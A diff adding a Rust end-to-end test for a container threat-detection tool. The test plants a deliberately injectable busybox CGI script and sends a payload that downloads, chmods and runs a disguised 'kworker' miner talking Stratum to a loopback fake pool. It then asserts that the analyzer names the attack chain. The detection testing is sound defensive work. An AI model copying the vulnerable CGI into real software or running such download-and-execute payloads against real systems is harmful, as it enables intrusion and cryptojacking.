@@ -1,0 +1,266 @@
+//! End to end: the story of DETECTIONS.md in a real runc container, recorded by the real
+//! `capture` and named by the real `analyze`, next to benign containers.
+//!
+//! The attacked container runs busybox httpd with a CGI script that passes its query to
+//! `/bin/sh -c` (command injection). The test sends the injection; the shell downloads a
+//! "miner" from a loopback HTTP server of the test, makes it executable and runs it; the miner
+//! looks up a pool name (a loopback DNS responder, when port 53 is free) and speaks Stratum to a
+//! loopback fake pool. Benign: a web server and its client, a tar/gzip batch job. All traffic
+//! goes to 127.0.0.1 listeners this test starts and stops.
+
+use std::io::{Read, Write};
+use std::net::{TcpListener, TcpStream, UdpSocket};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::{Arc, Mutex};
+use std::thread::JoinHandle;
+use std::time::{Duration, Instant};
+
+use needle_tests::binary;
+use needle_common::schema::Detail;
+use needle_tests::capture::{trace_files, Capture};
+use needle_tests::runc::{runc_available, CgroupStyle, Container, ContainerSpec};
+use needle_tests::{read_trace, require, require_privileges};
+
+/// A customary Stratum port (models/intel/mining_ports.txt).
+const POOL_PORT: u16 = 14444;
+const POOL: &str = "pool.minexmr.com";
+
+/// Loopback servers of the test; stopped (and joined) on drop, also when the test panics.
+struct Servers {
+    stop: Arc<AtomicBool>,
+    threads: Vec<JoinHandle<()>>,
+}
+
+impl Drop for Servers {
+    fn drop(&mut self) {
+        self.stop.store(true, Ordering::Relaxed);
+        for t in self.threads.drain(..) {
+            let _ = t.join();
+        }
+    }
+}
+
+fn accept_loop(l: TcpListener, stop: Arc<AtomicBool>, mut handle: impl FnMut(TcpStream) + Send + 'static) -> JoinHandle<()> {
+    l.set_nonblocking(true).unwrap();
+    std::thread::spawn(move || {
+        while !stop.load(Ordering::Relaxed) {
+            match l.accept() {
+                Ok((s, _)) => {
+                    let _ = s.set_nonblocking(false);
+                    let _ = s.set_read_timeout(Some(Duration::from_secs(3)));
+                    handle(s);
+                }
+                Err(_) => std::thread::sleep(Duration::from_millis(20)),
+            }
+        }
+    })
+}
+
+fn read_until(s: &mut TcpStream, end: &[u8]) -> Vec<u8> {
+    let mut buf = Vec::new();
+    let mut b = [0u8; 512];
+    while !buf.windows(end.len()).any(|w| w == end) && buf.len() < 16 * 1024 {
+        match s.read(&mut b) {
+            Ok(0) | Err(_) => break,
+            Ok(n) => buf.extend_from_slice(&b[..n]),
+        }
+    }
+    buf
+}
+
+/// A DNS answer: every A question gets 127.0.0.1.
+fn dns_answer(q: &[u8]) -> Option<Vec<u8>> {
+    if q.len() < 12 {
+        return None;
+    }
+    let mut end = 12;
+    while *q.get(end)? != 0 {
+        end += 1 + usize::from(q[end]);
+    }
+    let question = q.get(12..end + 5)?;
+    let mut r = vec![q[0], q[1], 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0];
+    r.extend_from_slice(question);
+    r.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 127, 0, 0, 1]);
+    Some(r)
+}
+
+fn free_port() -> u16 {
+    TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
+}
+
+fn url_encode(s: &str) -> String {
+    s.bytes().map(|b| if b.is_ascii_alphanumeric() { (b as char).to_string() } else { format!("%{b:02X}") }).collect()
+}
+
+fn connect_retry(port: u16) -> TcpStream {
+    let deadline = Instant::now() + Duration::from_secs(10);
+    loop {
+        match TcpStream::connect(("127.0.0.1", port)) {
+            Ok(s) => return s,
+            Err(e) if Instant::now() > deadline => panic!("httpd on {port} never listened: {e}"),
+            Err(_) => std::thread::sleep(Duration::from_millis(100)),
+        }
+    }
+}
+
+fn spec(args: String, files: Vec<(String, Vec<u8>, u32)>) -> ContainerSpec {
+    let mut s = ContainerSpec::new(CgroupStyle::DockerSystemd);
+    s.args = vec!["/bin/sh".into(), "-c".into(), args];
+    s.share_host_network = true;
+    s.files = files;
+    s
+}
+
+#[test]
+fn command_injection_to_miner_is_named_with_its_chain_and_benign_containers_raise_nothing() {
+    let name = "signatures_e2e::command_injection";
+    if !require_privileges(name) || !require(name, runc_available()) {
+        return;
+    }
+    let pool = TcpListener::bind(("127.0.0.1", POOL_PORT)).unwrap_or_else(|e| panic!("fake pool on 127.0.0.1:{POOL_PORT}: {e}"));
+    let web = TcpListener::bind("127.0.0.1:0").unwrap();
+    let web_port = web.local_addr().unwrap().port();
+    let stop = Arc::new(AtomicBool::new(false));
+    let mut servers = Servers { stop: stop.clone(), threads: Vec::new() };
+    let miner = format!(
+        "#!/bin/sh\n/bin/timeout 3 /bin/nslookup {POOL} 127.0.0.1 > /dev/null 2>&1\n\
+         echo '{{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"kworker/1.0\"]}}' | /bin/timeout 5 /bin/nc 127.0.0.1 {POOL_PORT} > /dev/null\n"
+    );
+    servers.threads.push(accept_loop(web, stop.clone(), move |mut s| {
+        read_until(&mut s, b"\r\n\r\n");
+        let _ = write!(s, "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{miner}", miner.len());
+    }));
+    let stratum = Arc::new(Mutex::new(Vec::<String>::new()));
+    let seen = stratum.clone();
+    servers.threads.push(accept_loop(pool, stop.clone(), move |mut s| {
+        let line = read_until(&mut s, b"\n");
+        seen.lock().unwrap().push(String::from_utf8_lossy(&line).into_owned());
+        let _ = s.write_all(b"{\"id\":1,\"result\":[[\"mining.notify\",\"1\"],\"00\",4],\"error\":null}\n");
+    }));
+    // DNS on 127.0.0.1:53 when nothing else holds it (the miner works either way).
+    let dns_up = match UdpSocket::bind("127.0.0.1:53") {
+        Ok(sock) => {
+            sock.set_read_timeout(Some(Duration::from_millis(100))).unwrap();
+            let stop = stop.clone();
+            servers.threads.push(std::thread::spawn(move || {
+                let mut b = [0u8; 512];
+                while !stop.load(Ordering::Relaxed) {
+                    if let Ok((n, from)) = sock.recv_from(&mut b)
+                        && let Some(r) = dns_answer(&b[..n])
+                    {
+                        let _ = sock.send_to(&r, from);
+                    }
+                }
+            }));
+            true
+        }
+        Err(e) => {
+            eprintln!("note: no DNS responder (127.0.0.1:53: {e}); the DNS findings are not asserted");
+            false
+        }
+    };
+
+    let tmp = tempfile::tempdir().unwrap();
+    let out = tmp.path().join("traces");
+    let mut cap = Capture::start(&out, &["--duration", "120s"]);
+
+    let app_port = free_port();
+    let cgi = b"#!/bin/sh\necho 'Content-Type: text/plain'\necho\nq=$(/bin/httpd -d \"$QUERY_STRING\")\n/bin/sh -c \"/bin/echo $q\"\n".to_vec();
+    let attacked = Container::start(spec(
+        format!("/bin/httpd -f -p 127.0.0.1:{app_port} -h /www"),
+        vec![
+            ("/www/index.html".into(), b"ok\n".to_vec(), 0o644),
+            ("/www/cgi-bin/echo".into(), cgi, 0o755),
+            ("/etc/resolv.conf".into(), b"nameserver 127.0.0.1\n".to_vec(), 0o644),
+        ],
+    ))
+    .expect("start the web app");
+    let site_port = free_port();
+    let web = Container::start(spec(
+        format!("/bin/httpd -f -p 127.0.0.1:{site_port} -h /www & for i in $(/bin/seq 1 12); do /bin/sleep 1; done"),
+        vec![("/www/index.html".into(), b"hello\n".to_vec(), 0o644)],
+    ))
+    .expect("start the web server");
+    let client = Container::start(spec(
+        format!("for i in $(/bin/seq 1 10); do /bin/wget -q -O /dev/null http://127.0.0.1:{site_port}/ || true; /bin/sleep 1; done; /bin/sleep 30"),
+        vec![],
+    ))
+    .expect("start the client");
+    let batch = Container::start(spec(
+        "for i in $(/bin/seq 1 4); do /bin/mkdir -p /data/b; /bin/cp /etc/passwd /data/b/p$i; /bin/tar -cf /tmp/b.tar /data/b; \
+         /bin/gzip -f /tmp/b.tar; /bin/sha256sum /tmp/b.tar.gz > /dev/null; /bin/sleep 1; done; /bin/sleep 30"
+            .into(),
+        vec![],
+    ))
+    .expect("start the batch job");
+
+    // The injection: an ordinary-looking request whose parameter carries commands.
+    let payload = format!(
+        "hi; /bin/mkdir -p /tmp/.x; /bin/wget -q -O /tmp/.x/kworker http://127.0.0.1:{web_port}/kworker; \
+         /bin/chmod +x /tmp/.x/kworker; /tmp/.x/kworker -o {POOL}:{POOL_PORT} -u 4AbCdEf"
+    );
+    let mut s = connect_retry(app_port);
+    s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
+    write!(s, "GET /cgi-bin/echo?{} HTTP/1.0\r\nHost: shop\r\n\r\n", url_encode(&payload)).unwrap();
+    let mut response = String::new();
+    let _ = s.read_to_string(&mut response);
+    assert!(response.contains("hi"), "the CGI answered: {response:?}");
+    let deadline = Instant::now() + Duration::from_secs(15);
+    while stratum.lock().unwrap().is_empty() && Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    assert!(stratum.lock().unwrap().iter().any(|l| l.contains("mining.subscribe")), "the miner spoke Stratum to the fake pool");
+    std::thread::sleep(Duration::from_secs(10)); // benign work goes on
+    cap.signal(libc::SIGINT);
+    let (code, summary) = cap.wait();
+    assert_eq!(code, Some(0), "{summary}");
+    drop(servers);
+
+    let o = std::process::Command::new(binary("analyze")).arg(&out).args(["--format", "json"]).output().unwrap();
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    let doc: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    let workloads = doc["workloads"].as_array().unwrap();
+    let find = |id: &str| workloads.iter().find(|w| w["workload"] == id).unwrap_or_else(|| panic!("no workload {id}"));
+    let a = find(attacked.id());
+    let types: Vec<&str> = a["findings"].as_array().unwrap().iter().filter_map(|f| f["type"].as_str()).collect();
+    eprintln!("attack findings: {types:?}");
+    let mut expected = vec![
+        "Execution:Runtime/SuspiciousShellCreated",
+        "Execution:Runtime/NewBinaryExecuted",
+        "Impact:Runtime/CryptoMinerExecuted",
+        "CryptoCurrency:Runtime/BitcoinTool.B",
+    ];
+    let rows: Vec<_> = trace_files(&out)
+        .iter()
+        .flat_map(|f| read_trace(f).unwrap().events)
+        .filter(|e| e.container.as_ref().is_some_and(|c| &*c.id == attacked.id()))
+        .collect();
+    let dns_recorded = rows.iter().any(|e| matches!(e.detail, Detail::DnsQuery(_)));
+    if dns_up && dns_recorded {
+        expected.push("CryptoCurrency:Runtime/BitcoinTool.B!DNS");
+    } else {
+        eprintln!("note: DNS queries not recorded by this capture build; BitcoinTool.B!DNS not asserted");
+    }
+    for want in &expected {
+        assert!(types.contains(want), "{want} missing from {types:?}");
+    }
+    let miner = a["findings"].as_array().unwrap().iter().find(|f| f["type"] == "Impact:Runtime/CryptoMinerExecuted").unwrap();
+    assert_eq!(miner["process"]["exe"], "/tmp/.x/kworker", "{miner:#}");
+    assert!(miner["process"]["ancestry"].as_array().unwrap().iter().any(|a| a == "/bin/httpd"), "{miner:#}");
+    let chain: Vec<String> = miner["chain"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| format!("{} {} {}", e["kind"].as_str().unwrap(), e["exe"].as_str().unwrap_or(""), e["fields"]["dst_port"].as_str().unwrap_or("")))
+        .collect();
+    eprintln!("chain: {chain:#?}");
+    for step in ["exec /bin/sh", "exec /bin/wget", "connect /bin/wget", "exec /bin/chmod", "exec /tmp/.x/kworker", &format!("connect /bin/nc {POOL_PORT}")] {
+        assert!(chain.iter().any(|c| c.starts_with(step)), "{step} missing from the chain {chain:#?}");
+    }
+    // The attacked container outranks every benign one, which carry no finding.
+    for c in [&web, &client, &batch] {
+        let w = find(c.id());
+        assert!(w["findings"].as_array().unwrap().is_empty(), "benign container {} got {:#}", c.id(), w["findings"]);
+        assert!(a["rank"].as_u64() < w["rank"].as_u64());
+    }
+}
